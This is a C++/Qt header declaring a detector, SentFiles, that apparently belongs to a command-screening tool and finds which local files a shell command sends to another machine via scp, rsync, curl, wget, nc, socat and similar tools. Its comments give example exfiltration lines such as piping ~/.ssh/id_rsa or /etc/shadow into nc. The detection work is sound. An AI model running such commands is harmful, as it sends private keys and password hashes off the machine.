#pragma once

#include <QList>
#include <QString>

namespace interlock {

struct ShellCommand;

// A local file a shell command sends to another machine.
struct SentFile {
    QString path; // as written, quotes removed (~/.ssh/id_rsa, /tmp/../etc/shadow)
    QString tool; // the program sending it: nc, scp, rsync, curl, wget, ssh…
};

// The local files a command line sends to another machine (docs/risk-rules.md, detector
// `sent_files`), read as ShellCommands reads the line (behind sudo, in sh -c…):
// - scp, rsync: the local operands when the last operand is remote (host:path, rsync://),
//   skipping the values of their options (-i key, -P port, -e 'ssh …');
// - curl: -T / --upload-file FILE, --data* / --json @FILE, -F name=@FILE or name=<FILE;
//   wget: --post-file / --body-file FILE;
// - nc, ncat, netcat, socat, telnet, ssh, and curl reading standard input (-T -, @-): what
//   they read, a `< FILE` of theirs or the files named by the commands piped into them
//   (cat ~/.ssh/id_rsa | nc host 80);
// - what the commands in their command substitutions read (curl -d "$(cat ~/.ssh/id_rsa)",
//   `cat f` unquoted, $(< f), in a header or the URL); a command that does not send passes
//   those files on like its operands (echo "$(cat /etc/shadow)" | nc host 80).
// Loopback hosts (localhost, 127.x, ::1) are not another machine. Linear in the line.
class SentFiles
{
public:
    static QList<SentFile> inCommand(const QString &commandLine);
    // The same, from the line as ShellCommands::read read it.
    static QList<SentFile> inCommand(const QList<ShellCommand> &commands);
    // The spellings of a path to match rules against: as written, its lexical path, $HOME and
    // ${HOME} as ~, each also with a trailing / (a folder sends what is in it).
    static QStringList spellings(const QString &path);
};

} // namespace interlock
